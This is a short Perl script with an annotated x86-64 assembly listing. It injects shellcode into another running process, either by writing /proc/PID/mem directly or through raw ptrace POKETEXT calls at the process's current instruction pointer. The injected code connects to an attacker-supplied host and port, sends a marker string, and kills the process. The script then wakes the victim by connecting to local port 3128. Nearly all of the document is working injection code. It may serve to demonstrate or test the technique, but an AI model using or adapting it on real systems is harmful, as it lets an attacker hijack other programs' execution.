# Writes code into another process that waits in accept(2), and wakes it. The code connects to HOST:PORT, sends
# "INJECT" and ends the process. x86-64. Arguments: mem|ptrace PID HOST PORT.
#
#   mov edi,2; mov esi,1; xor edx,edx; mov eax,41; syscall              socket(AF_INET, SOCK_STREAM, 0)
#   mov edi,eax; lea rsi,[rip+addr]; mov edx,16; mov eax,42; syscall    connect
#   lea rsi,[rip+text]; mov edx,7; mov eax,1; syscall                   write
#   sub rsp,512; mov rsi,rsp; mov edx,255; xor eax,eax; syscall         read, twice
#   mov rsi,rsp; mov edx,255; xor eax,eax; syscall
#   xor edi,edi; mov eax,231; syscall                                   exit_group(0)
#   text: "INJECT\n"; addr: struct sockaddr_in
use strict; use warnings; use Socket; use POSIX; use IO::Socket::INET;
my ($how, $pid, $host, $port) = @ARGV;
my $code = pack("H*", "bf02000000be0100000031d2b8290000000f0589c7488d354e000000ba10"
  . "000000b82a0000000f05488d3534000000ba07000000b8010000000f0548"
  . "81ec000200004889e6baff00000031c00f054889e6baff00000031c00f05"
  . "31ffb8e70000000f05494e4a4543540a") . sockaddr_in($port, inet_aton($host));
open my $state, "<", "/proc/$pid/syscall" or die "/proc/$pid/syscall: $!\n";
my ($counter) = (split / /, <$state>)[-1];
my $at = hex $counter;
if ($how eq "mem") {
  open my $memory, "+<", "/proc/$pid/mem" or die "/proc/$pid/mem: $!\n";
  sysseek $memory, $at, 0 or die "seek: $!\n";
  syswrite($memory, $code) == length $code or die "write: $!\n";
} else {
  syscall(101, 16, $pid + 0, 0, 0) == 0 or die "PTRACE_ATTACH: $!\n";
  waitpid $pid, 0x40000000;
  $code .= "\0" x (8 - length($code) % 8);
  my $offset = 0;
  for my $word (unpack "q*", $code) {
    syscall(101, 4, $pid + 0, $at + $offset, $word) == 0 or die "PTRACE_POKETEXT: $!\n";
    $offset += 8;
  }
  syscall(101, 17, $pid + 0, 0, 0) == 0 or die "PTRACE_DETACH: $!\n";
}
my $waker = IO::Socket::INET->new(PeerHost => "127.0.0.1", PeerPort => 3128, Timeout => 5);
print "injected\n";
